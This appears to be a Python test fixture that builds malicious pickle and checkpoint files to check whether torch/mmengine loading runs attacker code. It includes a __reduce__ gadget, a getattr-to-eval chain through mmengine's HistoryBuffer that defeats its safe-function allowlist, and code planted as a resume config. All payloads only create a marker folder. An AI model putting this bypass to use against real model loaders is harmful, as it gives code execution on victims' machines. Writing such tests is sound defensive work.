"""Files that would run code in whoever unpickles them."""

import io
import os
import zipfile

import torch


class MakesFolder:
    """Makes a folder where it is unpickled."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return os.mkdir, (self.path,)


def through_getattr(file, marker):
    """Reaches ``eval`` by what mmengine's list of safe functions allows.

    A history of the log takes any attribute when it is unpickled, and a
    second state then goes to whatever it holds as ``__setstate__``.
    """
    getattr_ = _global('builtins', 'getattr')
    module = getattr_ + getattr_ + _text('__self__') + b'\x86R'
    function = getattr_ + module + _text('eval') + b'\x86R'
    history = _global('mmengine.logging.history_buffer', 'HistoryBuffer')
    code = f"__import__('os').mkdir({str(marker)!r})"
    state = b'}(' + _text('__setstate__') + function + b'ub'
    pickled = history + b')\x81' + state + _text(code) + b'b'
    pickled = b'\x80\x02}(' + _text('message_hub') + pickled + b'u.'
    buffer = io.BytesIO()
    torch.save({}, buffer)
    with zipfile.ZipFile(buffer) as plain, zipfile.ZipFile(file, 'w') as out:
        for name in plain.namelist():
            is_pickle = name.endswith('data.pkl')
            out.writestr(name, pickled if is_pickle else plain.read(name))


def as_config(checkpoint, marker):
    """Puts code where mmengine looks for the config of a run to resume.

    It is a string, and so a plain value.
    """
    checkpoint['meta']['config'] = f'import os\nos.mkdir({str(marker)!r})\n'
    return checkpoint


def _global(module, name):
    return f'c{module}\n{name}\n'.encode()


def _text(text):
    return b'X' + len(text).to_bytes(4, 'little') + text.encode()
